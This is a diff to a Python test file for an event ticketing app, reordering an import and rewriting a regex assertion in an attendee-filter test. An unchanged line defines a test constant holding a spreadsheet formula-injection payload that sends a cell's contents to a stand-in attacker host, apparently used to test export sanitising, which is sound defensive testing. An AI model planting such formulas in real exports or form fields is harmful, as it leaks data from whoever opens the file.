@@ -18,8 +18,8 @@ from tests.core.helpers import new_client, page_text, sign_in
 from tests.factories import make_event
 from tests.ticketing.factories import make_order, make_ticket_type
 from ticketing import services
-from ticketing.models import Order, Ticket, TicketType
 from ticketing.domain import DOMAIN as TICKETING
+from ticketing.models import Order, Ticket, TicketType
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -98,7 +98,7 @@ async def test_attendee_filters_by_type_status_and_payment(client, db, festival)
         assert sorted(_names(response)) == sorted(expected), params
         for key, value in params.items():
             if key in ("type", "status", "paid"):
-                assert re.search(r'<option value="%s" selected>' % re.escape(value), response.text), params
+                assert re.search(rf'<option value="{re.escape(value)}" selected>', response.text), params
     for bad in ({"type": "adult"}, {"status": "deleted"}, {"paid": "maybe"}):
         assert (await client.get(base, params=bad)).status_code == 400
 
